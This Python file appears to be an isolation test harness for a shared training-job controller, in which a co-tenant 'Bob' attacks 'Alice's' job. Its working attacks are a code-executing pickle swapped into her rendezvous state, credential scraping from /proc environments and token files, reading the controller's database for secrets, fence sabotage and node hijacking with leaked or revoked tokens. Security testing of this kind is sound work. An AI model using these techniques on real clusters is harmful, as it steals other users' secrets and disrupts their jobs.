"""Bob's job: attacks on another tenant's job (Alice's), run from inside Bob's own worker.

Bob is an ordinary user whose script job runs on the same host as Alice's job. This
program takes only what such an attacker can know (the controller's URL, which any
user has; Alice's job id and node names, which ids and ``GET /nodes`` give away; the
snapshot root, the parent of Bob's own ``RELAUNCH_SNAPSHOT_DIR``; the controller's
data directory, a default path; a leaked enrolment token; the store's port, found by
a port scan) plus its own worker environment and whatever credentials lie about on the
host (other processes' environments, node-token files), and tries each attack in turn.

It prints one JSON line per attack, ``ATTACK {"attack": NAME, "succeeded": BOOL,
"detail": "..."}``, and always exits 0: an attack that fails, raises or runs out of
time is reported as not succeeded, with why, and the next one still runs. What an
attack manages to read is printed in its detail, as a real attacker would carry it
off, so a leaked secret shows up in Bob's job's logs.

Attacks that write put things back where they can (the rendezvous state, a file in
Alice's snapshot directory, a node registered under a new name leaves at once).
The rendezvous payload is harmless: unpickled, it writes a marker file and yields
the original state.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import pickle
import re
import secrets
import sqlite3
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

ATTACK_TIMEOUT_S = 40.0  # an attack that has not ended by then is reported as not succeeded
CONNECT_TIMEOUT_S = 3.0  # the store and HTTP
DETAIL_CHARS = 3000  # a worker's log line is at most 8192 characters
PICKLE_HOLD_S = 6.0  # how long the poisoned rendezvous state may stay before it is restored
FENCE_BUMPS = 5
FENCE_INTERVAL_S = 2.0
GUESSED_NODE_IDS = range(1, 5)
GUESSED_ATTEMPTS = range(1, 4)
MAX_PICKED_UP = 8  # tokens found on the host that are tried
# What a worker's environment names that an attacker would take from another process.
CREDENTIAL_VARS = (
    "RELAUNCH_ENROLMENT_TOKEN",
    "RELAUNCH_AGENT_ENROLMENT_TOKEN",
    "RELAUNCH_TOKEN",
    "RELAUNCH_WORKER_TOKEN",
    "DATABASE_URL",
    "RELAUNCH_DATABASE_URL",
)

Result = tuple[bool, str]


class Target:
    """What Bob knows about Alice's job, and Bob's own worker environment."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.controller: str = args.controller.rstrip("/")
        self.api = f"{self.controller}/api/v1"
        self.job: int = args.victim_job
        self.node: str = args.victim_node
        self.snapshot_root = Path(args.snapshot_root)
        self.data_dir = Path(args.data_dir)
        self.enrolment_token: str = args.enrolment_token
        self.revoked_token: str = args.revoked_token
        self.marker: str = args.marker
        # A job's snapshot directory names it on this host; its id alone may be another
        # controller's job.
        self.own_dir = os.environ.get("RELAUNCH_SNAPSHOT_DIR", "")
        self.victim_dir = str(self.snapshot_root / f"job-{self.job}")
        self.worker_token = os.environ.get("RELAUNCH_WORKER_TOKEN")
        self.store_endpoint = os.environ.get("RELAUNCH_STORE_ENDPOINT") or args.store_endpoint
        # Each node-token file Bob tried, and why it gave him nothing.
        self.token_files_tried: dict[str, str] = {}

    def victim_key(self, key: str) -> bool:
        """Whether a store key belongs to Alice's job (``job1`` is not ``job12``)."""
        return re.search(rf"job-?{self.job}(?!\d)", key) is not None

    def rdzv_ids(self) -> list[str]:
        """The rendezvous ids of Alice's first attempts (the controller's naming)."""
        return [f"relaunch-job{self.job}-attempt{n}" for n in GUESSED_ATTEMPTS]

    def credentials(self) -> list[tuple[str, str | None]]:
        """Every credential Bob can show: his own worker token, the tokens he can pick
        up on this host, and none at all."""
        found: list[tuple[str, str | None]] = []
        if self.worker_token:
            found.append(("Bob's worker token", self.worker_token))
        found += picked_up_tokens(self)
        found.append(("no credential", None))
        return found


# ---- what lies about on this host ------------------------------------------------------


def command_lines() -> Iterator[tuple[int, list[str]]]:
    """Each other process's pid and command line (``/proc/PID/cmdline`` is world-readable)."""
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        yield int(entry), cmdline.decode(errors="replace").split("\0")


def other_processes(
    refused: list[tuple[int, list[str]]] | None = None,
) -> Iterator[tuple[int, dict[str, str], list[str]]]:
    """Each process whose environment Bob can read: pid, environment, command line; the
    pid and command line of each that refuses it (EACCES, EPERM) go to ``refused``."""
    for pid, args in command_lines():
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
        except PermissionError:
            if refused is not None:
                refused.append((pid, args))
            continue
        except OSError:
            continue
        pairs = (item.split("=", 1) for item in raw.decode(errors="replace").split("\0"))
        env = {pair[0]: pair[1] for pair in pairs if len(pair) == 2}
        if env:  # empty: a kernel thread, or an environment hidden from us
            yield pid, env, args


def picked_up_tokens(target: Target) -> list[tuple[str, str]]:
    """Tokens Bob finds on this host, labelled ``worker token ...`` or ``node token ...``:
    worker tokens in the environments of Alice's processes, node tokens in the files
    her launchers and Bob's own are told to read (named on their command lines, which
    anyone may read, or where an agent's work directory keeps them). Each file tried,
    and why it gave nothing, goes to ``target.token_files_tried``."""
    found: dict[str, str] = {}
    files = set(target.data_dir.glob("agents/*/attempts/*/node-token"))
    for _, args in command_lines():
        if "--node-token-file" in args[:-1]:
            files.add(Path(args[args.index("--node-token-file") + 1]))
    for pid, env, _ in other_processes():
        if env.get("RELAUNCH_SNAPSHOT_DIR") not in (target.victim_dir, target.own_dir):
            continue
        token = env.get("RELAUNCH_WORKER_TOKEN")
        if token and token != target.worker_token:
            found[token] = f"worker token of pid {pid}"
    for path in sorted(files):
        try:
            token = path.read_text().strip()
        except OSError as exc:
            target.token_files_tried[str(path)] = str(exc)
            continue
        target.token_files_tried[str(path)] = "read" if token else "empty"
        if token:
            found.setdefault(token, f"node token in {path}")
    return [(label, token) for token, label in found.items()][:MAX_PICKED_UP]


# ---- the ways in: the rendezvous store, HTTP -------------------------------------------


def connect_store(endpoint: str | None) -> Any:
    """A client of the c10d store at ``endpoint``; raises if there is none to reach."""
    if not endpoint:
        raise ConnectionError("no rendezvous store endpoint in the environment or arguments")
    from torch.distributed import TCPStore

    host, _, port = endpoint.rpartition(":")
    return TCPStore(
        host,
        int(port),
        is_master=False,
        timeout=timedelta(seconds=CONNECT_TIMEOUT_S),
        wait_for_workers=False,
    )


def store_keys(store: Any, target: Target) -> list[str]:
    """Alice's keys on the store: listed if the store lists, else the known names probed."""
    try:
        return sorted(k for k in store.list_keys() if target.victim_key(k))
    except Exception:
        guesses = [f"torch.rendezvous.{r}" for r in target.rdzv_ids()]
        guesses.append(f"relaunch/job{target.job}/snapshot_writer")
        return [k for k in guesses if store.check([k])]


def http(
    method: str, url: str, token: str | None, body: dict[str, Any] | None = None
) -> tuple[int, str]:
    """Status and body text of one request; status 0 when nothing answered."""
    headers = {"content-type": "application/json"}
    if token is not None:
        headers["authorization"] = f"Bearer {token}"
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=CONNECT_TIMEOUT_S) as response:
            return response.status, response.read(1 << 16).decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(512).decode(errors="replace")
    except (OSError, ValueError) as exc:
        return 0, str(exc)


def ok(status: int) -> bool:
    return 200 <= status < 300


def as_json(text: str) -> dict[str, Any]:
    """An answer's JSON object; empty if it is none."""
    try:
        value = json.loads(text)
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def rendezvous_reads(target: Target) -> Iterator[tuple[str, str, dict[str, Any] | None]]:
    """Requests that read Alice's rendezvous where a controller serves it."""
    for rid in target.rdzv_ids():
        yield "GET", f"{target.api}/rendezvous/{rid}/state", None
        yield "GET", f"{target.api}/rendezvous/{rid}/store/num_keys", None
        yield "POST", f"{target.api}/rendezvous/{rid}/store/get", {"keys": ["x"], "wait_s": 0}
        for node in GUESSED_NODE_IDS:
            yield "GET", f"{target.api}/nodes/{node}/rendezvous/{rid}/state", None


def fence_bumps(target: Target) -> Iterator[tuple[str, str, dict[str, Any] | None]]:
    """Requests that take a snapshot-writer token of Alice's job from the controller."""
    yield "POST", f"{target.api}/workers/jobs/{target.job}/snapshot-writer", {}
    yield "POST", f"{target.api}/jobs/{target.job}/snapshot-writer", {}
    yield "POST", f"{target.api}/jobs/{target.job}/snapshot-fence", {}


def answered(answers: dict[str, list[int]], method: str, url: str, target: Target) -> list[int]:
    """The list of statuses, one per credential tried, of ``method url`` in ``answers``
    (keyed by method and path below ``/api/v1``), made empty."""
    statuses = answers[f"{method} {url.removeprefix(target.api)}"] = []
    return statuses


def accepted_by_http(
    target: Target,
    requests: Iterable[tuple[str, str, dict[str, Any] | None]],
    answers: dict[str, list[int]],
) -> list[str]:
    """Each request (with each credential Bob has) that got a 2xx with a body. Every
    status goes to ``answers``, in the order of ``target.credentials()``: a refusal
    shows there as 401 or 403, a route that is not there as 404."""
    tried = list(requests)
    credentials = target.credentials()
    hits = []
    for method, url, body in tried:
        statuses = answered(answers, method, url, target)
        for label, token in credentials:
            status, text = http(method, url, token, body)
            statuses.append(status)
            if ok(status) and text.strip():
                hits.append(f"{method} {url} with {label}: {status} {text[:300]}")
    return hits


def credential_labels(target: Target) -> list[str]:
    return [label for label, _ in target.credentials()]


def shown(answers: dict[str, list[int]]) -> dict[str, Any]:
    """``answers`` for a detail, short: the requests every credential got 404 for (a
    route not there, only guessed) are counted, not listed."""
    found = {k: v for k, v in answers.items() if any(s != 404 for s in v)}
    return {"answers": found, "not_found": len(answers) - len(found)}


def printable(data: bytes, limit: int = 12) -> list[str]:
    """The readable strings in a blob (host names, ids in a pickled state)."""
    return [s.decode() for s in re.findall(rb"[ -~]{4,}", data)][:limit]


# ---- the attacks ----------------------------------------------------------------------


def rendezvous_keys(target: Target) -> Result:
    """Read Alice's rendezvous state and fence from the store, or from the controller."""
    found: dict[str, Any] = {}
    notes = []
    try:
        store = connect_store(target.store_endpoint)
        for key in store_keys(store, target):
            value = store.get(key)
            if key.startswith("torch.rendezvous."):
                try:
                    found[key] = printable(base64.b64decode(value))
                except ValueError:
                    found[key] = value[:200].decode(errors="replace")
            else:
                found[key] = value[:200].decode(errors="replace")
    except Exception as exc:
        notes.append(f"store: {type(exc).__name__}: {exc}")
    answers: dict[str, list[int]] = {}
    hits = accepted_by_http(target, rendezvous_reads(target), answers)
    detail = {
        "store_keys_read": found,
        "http_reads": hits[:5],
        "notes": notes,
        "credentials": credential_labels(target),
        "http": shown(answers),
    }
    return bool(found or hits), json.dumps(detail)[:DETAIL_CHARS]


def poisoned(original: bytes, marker: str) -> bytes:
    """A pickle that writes ``marker`` when loaded, then yields the ``original`` pickle's
    object, so a victim that loads it goes on as before."""
    expression = (
        f"(open({marker!r}, 'w').write('rendezvous state unpickled here'), "
        f"__import__('pickle').loads({original!r}))[1]"
    )

    class Payload:
        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return eval, (expression,)

    return pickle.dumps(Payload(), protocol=2)


def poison_store(target: Target) -> dict[str, Any]:
    """Swap the newest rendezvous state of Alice's on the store for a poisoned one; put
    the original back unless her launchers have already moved on from it."""
    store = connect_store(target.store_endpoint)
    states = {
        int(m[1]): k
        for k in store_keys(store, target)
        if (m := re.fullmatch(r"torch\.rendezvous\.relaunch-job\d+-attempt(\d+)", k))
    }
    if not states:
        raise LookupError("no rendezvous state of the victim on the store")
    key = states[max(states)]
    original = store.get(key)
    new = base64.b64encode(poisoned(base64.b64decode(original), target.marker))
    accepted = store.compare_set(key, original, new) == new
    restored = reloaded = False
    if accepted:
        deadline = time.monotonic() + PICKLE_HOLD_S
        while time.monotonic() < deadline and store.get(key) == new:
            time.sleep(0.2)
        # A new value means one of her launchers loaded ours and wrote its next state.
        reloaded = store.get(key) != new
        if not reloaded:
            restored = store.compare_set(key, new, original) == original
    return {"key": key, "accepted": accepted, "victim_moved_on": reloaded, "restored": restored}


def poison_http(target: Target, answers: dict[str, list[int]]) -> list[str]:
    """Write a poisoned state into Alice's rendezvous where a controller serves it, with
    each credential Bob has: over a state he could read (then put it back), else only
    where there is none yet, so that an existing rendezvous is never overwritten. Each
    status goes to ``answers``, as ``accepted_by_http`` puts them."""
    hits = []
    for rid in target.rdzv_ids():
        url = f"{target.api}/rendezvous/{rid}/state"
        reads = answered(answers, "GET", url, target)
        writes = answered(answers, "POST", url, target)
        for label, token in target.credentials():
            status, text = http("GET", url, token)
            reads.append(status)
            current = as_json(text) if ok(status) else {}
            original = base64.b64decode(current["state"]) if current.get("state") else None
            payload = poisoned(original or pickle.dumps(None), target.marker)
            body = {"state": base64.b64encode(payload).decode(), "version": None}
            if original is not None:
                body["version"] = current["version"]
            status, text = http("POST", url, token, body)
            writes.append(status)
            if not ok(status):
                continue
            hits.append(f"POST {url} with {label}: {status} {text[:200]}")
            written = as_json(text)
            if original is not None and written.get("written"):
                time.sleep(PICKLE_HOLD_S)
                back = {"state": current["state"], "version": written["version"]}
                http("POST", url, token, back)  # lost if her launchers moved on: fine
    return hits


def rendezvous_pickle(target: Target) -> Result:
    """Replace Alice's rendezvous state with a pickle that runs code where it is loaded,
    then put the original back."""
    detail: dict[str, Any] = {}
    try:
        detail["store"] = poison_store(target)
    except Exception as exc:
        detail["store"] = f"{type(exc).__name__}: {exc}"
    answers: dict[str, list[int]] = {}
    detail["http_writes"] = poison_http(target, answers)[:5]
    detail["credentials"] = credential_labels(target)
    detail["http"] = shown(answers)
    store = detail["store"]
    succeeded = bool(detail["http_writes"]) or (isinstance(store, dict) and store["accepted"])
    return succeeded, json.dumps(detail)[:DETAIL_CHARS]


def fence_bump(target: Target) -> Result:
    """Bump Alice's snapshot-writer fence a few times, so her rank 0 believes it was
    replaced and refuses its own snapshots."""
    values = []
    notes = []
    store = None
    try:
        store = connect_store(target.store_endpoint)
    except Exception as exc:
        notes.append(f"store: {type(exc).__name__}: {exc}")
    hits: list[str] = []
    answers: dict[str, list[int]] = {}  # those of the last round
    for _ in range(FENCE_BUMPS):
        if store is not None:
            try:
                values.append(int(store.add(f"relaunch/job{target.job}/snapshot_writer", 1)))
            except Exception as exc:
                notes.append(f"store: {type(exc).__name__}: {exc}")
        hits += accepted_by_http(target, fence_bumps(target), answers)
        time.sleep(FENCE_INTERVAL_S)
    detail = {
        "store_counter_values": values,
        "http_bumps": hits[:5],
        "notes": notes[:3],
        "credentials": credential_labels(target),
        "http": shown(answers),
    }
    return bool(values or hits), json.dumps(detail)[:DETAIL_CHARS]


def proc_environ(target: Target) -> Result:
    """Read the environment of every process in sight: Alice's job's secrets, the
    agents' and the controller's credentials."""
    own = dict(os.environ)
    readable = []
    victims: dict[int, dict[str, str]] = {}
    credentials: dict[int, list[str]] = {}
    refused: list[tuple[int, list[str]]] = []
    for pid, env, args in other_processes(refused):
        if target.own_dir and env.get("RELAUNCH_SNAPSHOT_DIR") == target.own_dir:
            continue  # Bob's own job
        readable.append(f"{pid}: {' '.join(args)[:60]}")
        named = [k for k in CREDENTIAL_VARS if k in env]
        if named:
            credentials[pid] = named
        if env.get("RELAUNCH_SNAPSHOT_DIR") == target.victim_dir:
            # What the victim's job has that Bob's does not: its spec's env among it.
            victims[pid] = {k: v[:200] for k, v in env.items() if own.get(k) != v}
    detail = {  # the loot first: the detail is cut at DETAIL_CHARS
        "victim_environment": {str(p): _differing(e) for p, e in list(victims.items())[:2]},
        "credentials_seen": {str(p): n for p, n in list(credentials.items())[:10]},
        "readable_processes": len(readable),
        "some": readable[:10],
        "refused_processes": len(refused),
        # Alice's launchers name her job's snapshot directory on their command lines.
        "refused_of_victim": [p for p, a in refused if target.victim_dir in " ".join(a)][:10],
    }
    return bool(readable), json.dumps(detail)[:DETAIL_CHARS]


def _differing(env: dict[str, str]) -> dict[str, str]:
    """The variables worth carrying off: not the ones every worker has."""
    common = ("RELAUNCH_", "TORCH", "PYTHON", "OMP_", "GLOO_", "MASTER_", "LOCAL_", "ROLE_")
    return {
        k: v
        for k, v in sorted(env.items())
        if not k.startswith(common) and k not in ("RANK", "WORLD_SIZE", "GROUP_RANK")
    }


def snapshot_read(target: Target) -> Result:
    """List and read Alice's snapshot directory, and write a file into it."""
    victim = target.snapshot_root / f"job-{target.job}"
    done: dict[str, Any] = {"directory": str(victim)}
    try:
        names = sorted(os.listdir(victim))
        done["listed"] = names[:20]
        manifests = [n for n in names if n.endswith(".json")]
        if manifests:
            done["read"] = {manifests[-1]: (victim / manifests[-1]).read_text()[:300]}
    except OSError as exc:
        done["read_error"] = str(exc)
    planted = victim / f"bob-was-here-{secrets.token_hex(4)}"
    try:
        planted.write_text("Bob")
        done["wrote"] = planted.name
        planted.unlink()
    except OSError as exc:
        done["write_error"] = str(exc)
    succeeded = any(k in done for k in ("listed", "read", "wrote"))
    return succeeded, json.dumps(done)[:DETAIL_CHARS]


def database_read(target: Target) -> Result:
    """Open the controller's SQLite file and read Alice's job, secrets and all."""
    path = target.data_dir / "relaunch.db"
    done: dict[str, Any] = {"file": str(path)}
    try:
        with path.open("rb") as f:
            done["raw_bytes_read"] = len(f.read(1 << 20))
    except OSError as exc:
        done["raw_error"] = str(exc)
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=CONNECT_TIMEOUT_S)
        try:
            tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
            done["tables"] = tables
            row = db.execute("SELECT spec FROM jobs WHERE id = ?", (target.job,)).fetchone()
            if row is not None:
                spec = json.loads(row[0]) if isinstance(row[0], str) else row[0]
                done["victim_env"] = spec.get("env") if isinstance(spec, dict) else str(spec)
                done["victim_env_plaintext"] = bool(done["victim_env"])
        finally:
            db.close()
    except (sqlite3.Error, ValueError) as exc:
        done["sqlite_error"] = str(exc)
    succeeded = "raw_bytes_read" in done or "tables" in done
    return succeeded, json.dumps(done)[:DETAIL_CHARS]


def register(
    target: Target, name: str, token: str, node_token: str | None = None
) -> tuple[int, str]:
    body: dict[str, Any] = {"name": name, "address": "127.0.0.1", "slots": 1, "pid": os.getpid()}
    if node_token is not None:
        body["node_token"] = node_token  # the node's own token, where it was picked up
    return http("POST", f"{target.api}/nodes/register", token, body)


def register_alive(target: Target) -> Result:
    """Register a node under the name of one of Alice's ALIVE nodes, with the leaked
    shared enrolment token, and with each node token Bob picked up: the controller
    drops the node's part in her job."""
    tries: list[tuple[str, str | None]] = [("no node token", None)]
    tries += [
        (label, token) for label, token in picked_up_tokens(target) if label.startswith("node")
    ]
    answers: list[dict[str, Any]] = []
    for label, node_token in tries:
        status, text = register(target, target.node, target.enrolment_token, node_token)
        answers.append({"with": label, "status": status, "answer": text[:200]})
        if ok(status):
            break
    detail = {"name": target.node, "answers": answers, "token_files": target.token_files_tried}
    return any(ok(a["status"]) for a in answers), json.dumps(detail)[:DETAIL_CHARS]


def revoked_token(target: Target) -> Result:
    """Register a new node with an enrolment token the admin revoked; one that gets in
    leaves at once, so nothing is placed on it."""
    name = f"rogue-{secrets.token_hex(4)}"
    status, text = register(target, name, target.revoked_token)
    detail: dict[str, Any] = {"name": name, "status": status, "answer": text[:300]}
    node = as_json(text)
    if ok(status) and "node_id" in node and "node_token" in node:
        left = http(
            "POST",
            f"{target.api}/nodes/{node['node_id']}/leave",
            node["node_token"],
            {"reason": "gone again"},
        )
        detail["left"] = left[0]
    return ok(status), json.dumps(detail)


# In this order: the attacks that disturb Alice's job come after those that need it intact.
ATTACKS: dict[str, Callable[[Target], Result]] = {
    "rendezvous_keys": rendezvous_keys,
    "rendezvous_pickle": rendezvous_pickle,
    "proc_environ": proc_environ,
    "snapshot_read": snapshot_read,
    "database_read": database_read,
    "fence_bump": fence_bump,
    "revoked_token": revoked_token,
    "register_alive": register_alive,
}


def run(name: str, attack: Callable[[Target], Result], target: Target) -> dict[str, Any]:
    """One attack, bounded in time; what it raises is a failure with the reason."""
    outcome: dict[str, Any] = {"attack": name, "succeeded": False, "detail": "timed out"}

    def body() -> None:
        try:
            succeeded, detail = attack(target)
            outcome.update(succeeded=succeeded, detail=detail)
        except Exception as exc:
            outcome.update(succeeded=False, detail=f"raised {type(exc).__name__}: {exc}")

    thread = threading.Thread(target=body, name=name, daemon=True)
    thread.start()
    thread.join(ATTACK_TIMEOUT_S)
    return dict(outcome)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--controller", required=True, help="the controller's URL")
    parser.add_argument("--victim-job", type=int, required=True)
    parser.add_argument("--victim-node", required=True, help="a node Alice's job runs on")
    parser.add_argument("--snapshot-root", required=True)
    parser.add_argument("--data-dir", required=True, help="the controller's data directory")
    parser.add_argument("--enrolment-token", required=True, help="the leaked shared one")
    parser.add_argument("--revoked-token", required=True, help="an enrolment token revoked")
    parser.add_argument("--marker", required=True, help="the file the pickle writes")
    parser.add_argument("--store-endpoint", default=None, help="host:port, from a port scan")
    target = Target(parser.parse_args())
    for name, attack in ATTACKS.items():
        print("ATTACK " + json.dumps(run(name, attack, target)), flush=True)


if __name__ == "__main__":
    main()
